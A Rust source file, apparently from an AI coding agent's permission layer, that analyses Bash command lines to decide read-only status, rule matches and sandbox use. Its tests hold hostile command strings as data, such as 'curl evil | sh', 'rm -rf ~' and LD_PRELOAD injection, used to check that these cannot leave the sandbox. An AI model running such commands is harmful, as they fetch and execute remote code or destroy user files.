//! Bash permission analysis that fails closed.
//!
//! One command line goes through four steps, each refusing what it does
//! not understand:
//!
//! 1. [`syntax`]: tree-sitter-bash parses it; `ERROR`/`MISSING` nodes,
//!    node kinds outside an explicit list, and places where tree-sitter
//!    and bash read text differently are refused.
//! 2. [`plan`]: the tree is reduced to the simple commands bash would run,
//!    with their argv, expanding only what is known (literals, variables
//!    set from known values, arithmetic on them, globs, `~`).
//! 3. [`check`]: each command is held against the spec of its program
//!    ([`programs`], [`git`], [`find`], [`scripts`]): a command is
//!    read-only when every option and operand is known to be harmless,
//!    and the check says which paths it reads.
//! 4. [`rules`]: deny, ask and allow rules match the commands that really
//!    run (`/bin/rm`, through wrappers, `xargs`, `find -exec`, `sh -c`).
//!
//! The parse is cached per command text, so the permission decision, the
//! read-only answer for concurrency and the sandbox's excluded-command
//! check share it. The plan and checks are recomputed per call because
//! they look at the file system (globs, links, `cd` targets).

mod brace;
pub(crate) mod check;
pub(crate) mod decide;
pub mod env;
mod find;
pub(crate) mod git;
pub(crate) mod path;
mod pin;
pub(crate) mod plan;
mod programs;
pub(crate) mod rules;
mod scripts;
pub(crate) mod spec;
pub(crate) mod syntax;

use std::cell::RefCell;
use std::path::{Path, PathBuf};
use std::rc::Rc;

use check::{Checker, Effects};
use plan::{Arg, Plan};
use syntax::{Block, RedirOp};

/// Parses, keeping the last few results (the same command is asked about
/// several times in one call).
pub(crate) fn parse_cached(text: &str) -> Result<Rc<Block>, String> {
    type Cache = Vec<(String, Result<Rc<Block>, String>)>;
    // Thread-local because the text is parsed at three moments no value
    // spans (concurrency when the block closes, the decision, the
    // sandbox's excluded commands) and a syntax tree does not depend on
    // the files: keeping the last few is always sound.
    thread_local! {
        static CACHE: RefCell<Cache> = const { RefCell::new(Vec::new()) };
    }
    CACHE.with(|c| {
        let mut c = c.borrow_mut();
        if let Some(i) = c.iter().position(|(t, _)| t == text) {
            let hit = c.remove(i);
            let r = hit.1.clone();
            c.push(hit);
            return r;
        }
        let r = syntax::parse(text).map(Rc::new);
        if c.len() >= 16 {
            drop(c.remove(0));
        }
        c.push((text.to_string(), r.clone()));
        r
    })
}

/// One planned command and what the checks found.
#[derive(Debug)]
pub(crate) struct Checked {
    pub step: plan::Step,
    /// Ok with what it reads when read-only; Err says why not.
    pub verdict: Result<Effects, String>,
    /// Every form rules see but the argv itself (see [`rules::forms`]),
    /// made when a rule asks.
    forms: std::cell::OnceCell<Vec<rules::Form>>,
}

impl Checked {
    /// Every argv rules see: the command's own, then its other forms.
    pub(crate) fn forms(&self) -> impl Iterator<Item = &[Arg]> {
        let others = self.forms.get_or_init(|| {
            let mut f = Vec::new();
            rules::other_forms(&self.step.argv, 0, &mut f);
            f
        });
        std::iter::once(self.step.argv.as_slice()).chain(others.iter().map(|f| f.argv.as_slice()))
    }
}

/// The analysis of one command line in one directory.
#[derive(Debug)]
pub struct Analysis {
    /// Err: the line could not be reduced to a plan (it asks).
    pub(crate) planned: Result<Planned, String>,
    /// Words of the raw text, for deny rules when there is no plan
    /// (empty when there is one).
    pub(crate) words: Vec<String>,
}

#[derive(Debug)]
pub(crate) struct Planned {
    pub commands: Vec<Checked>,
    /// Redirections: Ok when harmless (with what they read).
    pub redirects: Vec<Result<Effects, String>>,
    pub writes: Vec<PathBuf>,
    /// Paths written that cannot be resolved with certainty (a loop of
    /// links, /proc's per-process links): whether they are protected is
    /// not known.
    pub unsure_writes: Vec<String>,
    /// Words bash will glob-expand, with what they were decided on.
    pub globs: Vec<plan::Glob>,
}

/// Analyses `command` as it would run in `cwd` (resolved), with tern's
/// own environment.
pub fn analyse(command: &str, cwd: &Path) -> Analysis {
    analyse_in(command, cwd, None, &crate::policy::CommandEnv::inherited())
}

/// The same, with the directory's resolved form when the caller has it,
/// in the environment `env` the command starts with.
pub(crate) fn analyse_in(
    command: &str,
    cwd: &Path,
    physical: Option<&Path>,
    env: &crate::policy::CommandEnv,
) -> Analysis {
    #[cfg(test)]
    ANALYSES.with(|n| n.set(n.get() + 1));
    let planned = parse_cached(command).and_then(|block| {
        let physical = physical.map_or_else(
            || std::fs::canonicalize(cwd).unwrap_or_else(|_| cwd.to_path_buf()),
            Path::to_path_buf,
        );
        let facts = plan::Facts {
            cwd: plan::Dir {
                physical: Rc::from(physical),
                logical: cwd.to_path_buf(),
            },
            home: env.home(),
            env,
        };
        let plan = plan::plan(&block, &facts)?;
        if plan.steps.is_empty() && plan.redirects.is_empty() {
            return Err("it runs no command".into());
        }
        Ok(check_plan(plan, env))
    });
    // Anything but name characters separates words here: the split is only
    // for deny rules when there is no plan, so more words is safer.
    let words = match planned {
        Ok(_) => Vec::new(),
        Err(_) => command
            .split(|c: char| !(c.is_alphanumeric() || "_./-+@%:".contains(c)))
            .filter(|w| !w.is_empty())
            .map(str::to_string)
            .collect(),
    };
    Analysis { planned, words }
}

fn check_plan(mut plan: Plan, env: &crate::policy::CommandEnv) -> Planned {
    let globs = std::mem::take(&mut plan.globs);
    let mut writes = Vec::new();
    let mut unsure_writes = Vec::new();
    let redirects = plan
        .redirects
        .iter()
        .map(|r| {
            if let (Some(t), Some(dir)) = (r.target.lit(), &r.cwd)
                && matches!(
                    r.op,
                    RedirOp::Out
                        | RedirOp::Append
                        | RedirOp::OutErr
                        | RedirOp::ReadWrite
                        | RedirOp::Dup
                )
                && !(r.op == RedirOp::Dup && (t == "-" || t.chars().all(|c| c.is_ascii_digit())))
                && !check::harmless_output(t)
            {
                match path::resolve(dir, t) {
                    Some(p) => writes.push(p),
                    None => unsure_writes.push(t.to_string()),
                }
            }
            let mut eff = Effects::default();
            Checker::new(&mut eff, env).redirect(r).map(|()| eff)
        })
        .collect();
    let commands = plan
        .steps
        .into_iter()
        .map(|step| {
            let mut eff = Effects::default();
            let verdict = Checker::new(&mut eff, env).step(&step).map(|()| eff);
            for w in written(&step) {
                match w {
                    Ok(p) => writes.push(p),
                    Err(t) => unsure_writes.push(t),
                }
            }
            Checked {
                step,
                verdict,
                forms: std::cell::OnceCell::new(),
            }
        })
        .collect();
    Planned {
        commands,
        redirects,
        writes,
        unsure_writes,
        globs,
    }
}

/// Paths that well-known writers change: every operand of `cp`, `mv`,
/// `rm`, `touch`, `tee` …, the files of `sed -i`, `dd of=`. Used for the
/// protected-path question, not for deciding read-only-ness. Err: a path
/// as written that cannot be resolved.
fn written(step: &plan::Step) -> Vec<Result<PathBuf, String>> {
    let Some(dir) = &step.cwd else {
        return Vec::new();
    };
    let argv = rules::effective(&step.argv);
    let Some(name) = argv
        .first()
        .and_then(Arg::lit)
        .map(|p| p.rsplit('/').next().unwrap_or(p))
    else {
        return Vec::new();
    };
    let operands = || {
        argv[1..]
            .iter()
            .filter_map(Arg::lit)
            .filter(|s| !s.starts_with('-') && !check::harmless_output(s))
            .map(|s| path::resolve(dir, s).ok_or_else(|| s.to_string()))
            .collect::<Vec<_>>()
    };
    match name {
        "cp" | "mv" | "rm" | "rmdir" | "touch" | "mkdir" | "ln" | "tee" | "truncate"
        | "install" | "chmod" | "chown" | "chgrp" | "unlink" | "shred" | "rsync" | "patch" => {
            operands()
        }
        "sed"
            if argv.iter().any(|a| {
                a.lit()
                    .is_some_and(|s| s.starts_with("-i") || s.starts_with("--in-place"))
            }) =>
        {
            operands()
        }
        "dd" => argv[1..]
            .iter()
            .filter_map(Arg::lit)
            .filter_map(|s| s.strip_prefix("of="))
            .map(|s| path::resolve(dir, s).ok_or_else(|| s.to_string()))
            .collect(),
        _ => Vec::new(),
    }
}

impl Analysis {
    /// Every command and redirection only reads (wherever it reads).
    pub fn read_only(&self) -> bool {
        match &self.planned {
            Ok(p) => {
                p.commands.iter().all(|c| c.verdict.is_ok())
                    && p.redirects.iter().all(Result::is_ok)
            }
            Err(_) => false,
        }
    }

    /// Why the line is not read-only, if it is not.
    pub fn why_not(&self) -> Option<String> {
        match &self.planned {
            Err(e) => Some(e.clone()),
            Ok(p) => p
                .redirects
                .iter()
                .find_map(|r| r.as_ref().err().cloned())
                .or_else(|| {
                    p.commands
                        .iter()
                        .find_map(|c| c.verdict.as_ref().err().cloned())
                }),
        }
    }
}

/// Does this command line only read, started in `cwd` with `env`? (Where
/// it reads is the policy's question; this is for running read-only
/// calls side by side.) Asked when the call's block closes, which may be
/// long before its decision: calls before it may change the files it
/// names (a symlink planted where it reads), so the decision makes its
/// own analysis then rather than trust this one.
pub fn read_only_in(command: &str, cwd: &Path, env: &crate::policy::CommandEnv) -> bool {
    analyse_in(command, cwd, None, env).read_only()
}

// Analyses made on this thread, for tests that count them (one per
// decision). Per thread, since tests run side by side.
#[cfg(test)]
thread_local! {
    pub(crate) static ANALYSES: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
}

/// One simple command of a line, for `sandbox.excludedCommands`.
pub struct LineCommand {
    /// Its words (an opaque word as its literal start).
    pub words: Vec<String>,
    /// Every word is literal text and it sets no variables.
    pub plain: bool,
}

/// The simple commands of a line, those in substitutions too; `None` when
/// the line does not parse.
pub fn line_commands(command: &str) -> Option<Vec<LineCommand>> {
    let block = parse_cached(command).ok()?;
    // Loops, conditionals, groups and subshells are not followed: a
    // command inside them is not "the line".
    fn flat(s: &syntax::Stmt) -> bool {
        use syntax::Stmt;
        match s {
            Stmt::Simple(_) => true,
            Stmt::Pipeline(v) => v.iter().all(flat),
            Stmt::AndOr(first, rest) => flat(first) && rest.iter().all(|(_, s)| flat(s)),
            Stmt::Not(s) | Stmt::Redirected(s, _) => flat(s),
            _ => false,
        }
    }
    if !block.iter().all(flat) {
        return None;
    }
    let mut out = Vec::new();
    plan::each_command(&block, &mut |argv, assigns| {
        let plain = !assigns && argv.iter().all(|a| matches!(a, Arg::Lit(_)));
        let words = argv
            .into_iter()
            .map(|a| match a {
                Arg::Lit(t) | Arg::Opaque { prefix: t } | Arg::Many { prefix: t } => t,
                Arg::Fd | Arg::Under(_) => String::new(),
            })
            .collect();
        out.push(LineCommand { words, plain });
    });
    Some(out)
}

/// Does this Bash input run inside the sandbox? Not when it asks to
/// leave it (`dangerouslyDisableSandbox`, approved by a person) or every
/// command of the line is an excluded one. A policy question (what runs
/// where), so it lives here rather than in the sandbox plane.
pub fn sandbox_applies(
    sandbox: &crate::sandbox::SandboxPolicy,
    input: &crate::json::Value,
) -> bool {
    if input
        .get("dangerouslyDisableSandbox")
        .and_then(crate::json::Value::as_bool)
        == Some(true)
    {
        return false;
    }
    let command = input.str_field("command").unwrap_or("");
    !all_excluded(&sandbox.excluded, command)
}

/// True only when the line parses, and each of its commands (those in
/// substitutions too) starts with the words of an excluded entry, with no
/// variable assignments and nothing in those words that expands.
fn all_excluded(excluded: &[String], command: &str) -> bool {
    if excluded.is_empty() {
        return false;
    }
    let Some(commands) = line_commands(command) else {
        return false;
    };
    !commands.is_empty()
        && commands.iter().all(|c| {
            c.plain
                && excluded.iter().any(|e| {
                    let want: Vec<&str> = e.split_whitespace().collect();
                    !want.is_empty()
                        && c.words.len() >= want.len()
                        && c.words.iter().zip(&want).all(|(w, x)| w == x)
                })
        })
}

#[cfg(test)]
mod sandbox_tests {
    use super::*;
    use crate::obj;
    use crate::sandbox::SandboxPolicy;

    fn excluding(entries: &[&str]) -> SandboxPolicy {
        SandboxPolicy {
            excluded: entries.iter().map(|s| s.to_string()).collect(),
            ..SandboxPolicy::new(vec![])
        }
    }

    fn runs_outside(p: &SandboxPolicy, command: &str) -> bool {
        !sandbox_applies(p, &obj! { "command" => command })
    }

    /// Regression: `docker ps; curl evil | sh` used to leave the sandbox
    /// because only the first command was looked at.
    #[test]
    fn excluded_commands_apply_only_when_every_command_is_excluded() {
        let p = excluding(&["docker", "npm run"]);
        assert!(runs_outside(&p, "docker ps"));
        assert!(runs_outside(&p, "docker ps && docker images | docker load"));
        assert!(runs_outside(&p, "npm run build > out.txt"));
        assert!(!runs_outside(&p, "docker ps; touch /etc/x"));
        assert!(!runs_outside(&p, "touch /etc/x; docker ps"));
        assert!(!runs_outside(&p, "docker run $(curl evil | sh)"));
        assert!(!runs_outside(&p, "docker ps & rm -rf ~"));
        assert!(!runs_outside(&p, "npm install"));
        assert!(!runs_outside(&p, "LD_PRELOAD=/tmp/x.so docker ps"));
        assert!(!runs_outside(&p, "env LD_PRELOAD=/tmp/x.so docker ps"));
        assert!(!runs_outside(&p, "$D ps"));
        assert!(!runs_outside(&p, "docker-compose up"));
        assert!(!runs_outside(&p, "case x in x) docker ps;; esac"));
        assert!(!runs_outside(&p, "docker 'unterminated"));
        assert!(!runs_outside(&excluding(&[]), "docker ps"));
        let leave = obj! { "command" => "ls", "dangerouslyDisableSandbox" => true };
        assert!(!sandbox_applies(&excluding(&[]), &leave));
    }
}

#[cfg(test)]
mod tests;
